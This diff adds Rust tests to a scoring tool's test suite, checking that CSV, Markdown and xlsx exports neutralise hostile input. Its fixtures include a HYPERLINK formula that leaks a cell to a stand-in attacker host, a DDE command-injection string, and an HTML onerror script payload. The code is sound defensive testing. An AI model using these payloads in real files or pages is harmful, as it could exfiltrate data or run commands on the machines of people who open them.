@@ -167,3 +167,114 @@ fn item4_many_unknown_manual_and_not_applicable_ids() {
         assert!(stderr.contains(&format!("… {} more of this kind", n - SHOWN_PER_KIND)), "{list}");
     }
 }
+
+// ---- item 6: CSV cells never run as formulas, Markdown never as HTML, xlsx text is text ----
+
+const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
+const COMMAND: &str = "+cmd|' /C calc'!A0";
+
+/// The seed with a hostile subject and period, and (optionally) a declared total under the
+/// computed 92.7 so that a difference is negative.
+fn hostile_seed(subject: &str, period: &str, declared_total: &str) -> String {
+    let seed = std::fs::read_to_string(SEED).unwrap();
+    let quote = |s: &str| format!("'{}'", s.replace('\'', "''"));
+    seed.replace("subject: 广州市从化区科学技术协会", &format!("subject: {}", quote(subject)))
+        .replace("period: \"2021\"", &format!("period: {}", quote(period)))
+        .replace("  total: 92.7 ", &format!("  total: {declared_total} "))
+}
+
+fn stdout_ok(args: &[&str]) -> String {
+    let out = selfeval().args(args).output().unwrap();
+    assert!(out.status.code() != Some(101), "{args:?} panicked");
+    String::from_utf8(out.stdout).unwrap()
+}
+
+/// Every CSV field of a document (no field of these holds a quoted comma or line break).
+fn csv_cells(csv: &str) -> Vec<Vec<String>> {
+    csv.trim_start_matches('\u{feff}')
+        .split("\r\n")
+        .filter(|l| !l.is_empty())
+        .map(|l| l.split(',').map(|f| f.trim_matches('"').replace("\"\"", "\"")).collect())
+        .collect()
+}
+
+/// No cell of any CSV writer starts a formula; numbers are left as numbers.
+#[test]
+fn item6_every_csv_writer_neutralises_formulas() {
+    let dir = TempDir::new();
+    let data = dir.file("hostile.yaml", &hostile_seed(HYPERLINK, COMMAND, "95"));
+    let under = dir.file("under.yaml", &hostile_seed("-2+3", "@SUM(1)", "90"));
+    let outputs = [
+        stdout_ok(&["score", &data, "--format", "csv"]),
+        stdout_ok(&["breakdown", &data, "--format", "csv"]),
+        stdout_ok(&["check", &data, &under, "--format", "csv"]),
+        stdout_ok(&["score", &data, &under, "--format", "csv"]),
+    ];
+    for csv in &outputs {
+        assert!(!csv.is_empty());
+        let cells = csv_cells(csv);
+        for cell in cells.iter().flatten() {
+            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            let number = cell.parse::<f64>().is_ok();
+            assert!(!risky || number, "live cell {cell:?} in\n{csv}");
+        }
+        let all: Vec<&String> = cells.iter().flatten().collect();
+        assert!(all.iter().any(|c| c.starts_with("'=HYPERLINK(") || c.starts_with("'-2+3")), "{csv}");
+    }
+    // The subject and period as written, behind the quote.
+    let score = &outputs[0];
+    assert!(score.contains(&format!("'{}", COMMAND)), "{score}");
+    assert!(score.contains(r#""'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")""#), "{score}");
+    // check: an under-claim's negative difference is still a number.
+    let check = csv_cells(&outputs[2]);
+    let total_under = check.iter().find(|r| r[0].ends_with("under.yaml") && r[3] == "total").unwrap();
+    assert_eq!(total_under[1], "'-2+3");
+    assert_eq!(total_under[2], "'@SUM(1)");
+    assert_eq!(total_under[7], "-2.7");
+}
+
+/// Markdown cells show `<` and `>` as entities.
+#[test]
+fn item6_markdown_cells_escape_markup() {
+    let dir = TempDir::new();
+    let data = dir.file("m.yaml", &hostile_seed("<img src=x onerror=alert(1)>", "<b>2021</b>", "92.7"));
+    for cmd in ["score", "breakdown", "explain", "check"] {
+        let md = stdout_ok(&[cmd, &data, "--format", "markdown"]);
+        assert!(md.contains("&lt;img src=x onerror=alert(1)&gt;"), "{cmd}: {md}");
+        assert!(!md.contains("<img"), "{cmd}: {md}");
+    }
+    let ranking = stdout_ok(&["score", &data, SEED, "--format", "markdown"]);
+    assert!(ranking.contains("&lt;b&gt;2021&lt;/b&gt;") && !ranking.contains("<b>"), "{ranking}");
+}
+
+/// A result workbook writes a subject `=HYPERLINK(…)` as a text cell, never a formula.
+#[test]
+fn item6_xlsx_writes_formula_text_as_text() {
+    use calamine::{Data, Reader, Xlsx, open_workbook};
+    let dir = TempDir::new();
+    let data = dir.file("x.yaml", &hostile_seed(HYPERLINK, COMMAND, "92.7"));
+    for (name, args) in [
+        ("one.xlsx", vec!["breakdown", data.as_str(), "--format", "xlsx"]),
+        ("ranking.xlsx", vec!["score", data.as_str(), SEED, "--format", "xlsx"]),
+    ] {
+        let out = dir.0.join(name).to_string_lossy().into_owned();
+        let status = selfeval().args(&args).args(["-o", &out]).output().unwrap();
+        assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
+        let mut book: Xlsx<_> = open_workbook(&out).unwrap();
+        let mut found = false;
+        for sheet in book.sheet_names() {
+            let formulas = book.worksheet_formula(&sheet).unwrap();
+            assert!(formulas.used_cells().next().is_none(), "{name}!{sheet} has a formula");
+            let cells = book.worksheet_range(&sheet).unwrap();
+            for (_, _, v) in cells.used_cells() {
+                if let Data::String(s) = v
+                    && (s.contains("HYPERLINK") || s.contains("cmd|"))
+                {
+                    assert!(s == HYPERLINK || s == COMMAND || s.contains(HYPERLINK), "{s}");
+                    found = true;
+                }
+            }
+        }
+        assert!(found, "{name}: the subject is not in the workbook as text");
+    }
+}
